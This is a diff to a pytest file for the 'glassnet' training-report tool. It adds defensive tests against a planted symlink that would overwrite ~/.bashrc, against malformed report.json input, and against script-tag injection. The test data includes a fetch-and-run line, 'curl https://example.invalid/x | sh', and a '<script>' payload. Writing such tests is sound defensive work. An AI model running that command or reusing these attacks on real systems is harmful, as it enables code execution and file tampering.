@@ -2,6 +2,8 @@
 
 import html
 import json
+import os
+from pathlib import Path
 
 import numpy as np
 import pytest
@@ -116,8 +118,9 @@ def test_a_run_stopped_by_a_nan_or_an_error_still_writes_its_report(tmp_path):
     _, history, _ = _digits_fit([ReportCallback(str(nan_report))], lr=0.1, poison=True)
     page = nan_report.read_text()
     assert "Training stopped early: the loss became nan" in page
-    assert history.diagnosis.first.problem == "nonfinite"  # no blow-up before: an op made it
-    assert history.diagnosis.first.remedies[0].startswith("find the op")
+    # the planted pixel, not an op, made it (this said "nonfinite": an op made it, find the op)
+    assert history.diagnosis.first.problem == "nonfinite_data"
+    assert history.diagnosis.first.remedies[0].startswith("find them before training")
 
     class Boom(Callback):
         def on_epoch_end(self, epoch, logs):
@@ -166,3 +169,86 @@ def test_runs_side_by_side(tmp_path):
     assert "glassnet runs compared: slow, fast" in page
     assert "<td>lr</td><td>0.01</td><td>0.1</td>" in page and "<td>epochs</td>" not in page
     assert page.count("data:image/png;base64,") == 1
+
+
+# -- a run folder made by someone else ------------------------------------------------------
+def test_a_symlink_planted_at_the_temporary_name_is_not_followed(tmp_path, monkeypatch):
+    """The report used to be written to ``report.html.tmp`` with ``open(.., "w")``: a run
+    folder shipped with that name linked to ~/.bashrc made ``glassnet report RUN`` overwrite
+    it with the page (whose <pre> keeps the run's own text lines, e.g. a shell command)."""
+    monkeypatch.setattr(rep, "_plots", lambda data: {})
+    victim = tmp_path / "victim.txt"
+    victim.write_text("keep me")
+    run = tmp_path / "run"
+    run.mkdir()
+    data = _data()
+    data["summary"] = "\ncurl https://example.invalid/x | sh\n"
+    (run / "report.json").write_text(json.dumps(data))
+    (run / "report.html.tmp").symlink_to(victim)
+    out = rep.write_report(str(run))
+    assert victim.read_text() == "keep me"
+    assert not os.path.islink(out)
+    assert Path(out).read_text().startswith("<!doctype html>")
+    # the comparison page and a fit() report take their path from the caller: same rule
+    (tmp_path / "compare.html.tmp").symlink_to(victim)
+    rep.write_compare([str(run), str(run)], str(tmp_path / "compare.html"))
+    model, history, (xv, yv) = _digits_fit(epochs=1)
+    (tmp_path / "fit.html.tmp").symlink_to(victim)
+    history.report(str(tmp_path / "fit.html"))
+    assert victim.read_text() == "keep me"
+    assert (tmp_path / "compare.html").read_text().startswith("<!doctype html>")
+    assert (tmp_path / "fit.html").read_text().startswith("<!doctype html>")
+
+
+@pytest.mark.parametrize(
+    "content",
+    [
+        "dir",  # a folder named report.json
+        "[1, 2]",  # JSON, but not an object
+        json.dumps({"history": 5}),  # wrong types inside
+        json.dumps({"confusion": [[1, 2], [3, 4]], "class_names": ["a"]}),  # lengths disagree
+        json.dumps({"diagnosis": {"findings": [{"evidence": 3}]}}),
+        "[" * 100_000 + "]" * 100_000,  # nested past Python's recursion limit
+    ],
+)
+def test_an_odd_report_json_is_one_clear_error(tmp_path, capsys, content):
+    from glassnet.cli import main
+
+    run = tmp_path / "run"
+    run.mkdir()
+    if content == "dir":
+        (run / "report.json").mkdir()
+    else:
+        (run / "report.json").write_text(content)
+    with pytest.raises(ValueError, match="report.json"):
+        rep.write_report(str(run))
+    assert main(["report", str(run)]) == 2
+    err = capsys.readouterr().err
+    assert len(err.strip().splitlines()) == 1 and "unexpected" not in err, err
+    assert not (run / "report.html").exists()
+
+
+def test_no_string_from_a_run_reaches_the_page_unescaped():
+    """report.json comes from a run folder, maybe someone else's: every string in it (keys
+    too: metric, option, manifest and parameter names, class names, the run name) is
+    escaped, so a planted tag never becomes markup (pinned; no hole was found)."""
+    tag = "<script>alert(1)</script>"
+
+    def poison(value, keys=False):  # keys: the free-form maps (names chosen by the run)
+        if isinstance(value, dict):
+            return {tag + k if keys else k: poison(v) for k, v in value.items()}
+        if isinstance(value, list):
+            return [poison(v) for v in value]
+        return tag + value if isinstance(value, str) else value
+
+    data = _data()
+    data["diagnosis"] = {"summary": "s", "findings": [{"title": "t", "since_epoch": "2",
+                         "evidence": ["e"], "remedies": ["r"], "severity": "note"}]}  # fmt: skip
+    data["class_names"], data["stop_reason"] = ["a", "b", "c"], "stopped"
+    free = ("history", "config", "manifest", "test_metrics")
+    data = {key: poison(value, key in free) for key, value in data.items()}
+    pages = [rep.render_html(data, tag), rep.render_compare([data, data], [tag, tag])]
+    data["diagnosis"] = None  # the verdicts list instead
+    pages.append(rep.render_html(data, tag))
+    for page in pages:
+        assert "<script" not in page and "&lt;script&gt;" in page
